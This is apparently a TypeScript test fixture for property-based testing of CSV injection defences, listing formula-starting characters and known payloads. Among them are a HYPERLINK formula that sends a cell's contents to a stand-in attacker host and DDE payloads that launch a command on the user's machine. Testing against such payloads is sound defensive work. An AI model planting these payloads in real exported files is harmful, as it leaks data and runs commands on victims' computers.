import fc from 'fast-check';

/** First characters that make a spreadsheet read a cell as a formula (OWASP CSV injection). */
export const FORMULA_STARTS = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\uFF1D',
  '\uFF0B',
  '\uFF0D',
] as const;

/** Payloads seen in CSV injection reports. */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
] as const;

/** Any text that starts like a formula. */
export const formulaCell = fc
  .tuple(fc.constantFrom(...FORMULA_STARTS), fc.string({maxLength: 40}))
  .map(([start, rest]) => start + rest);
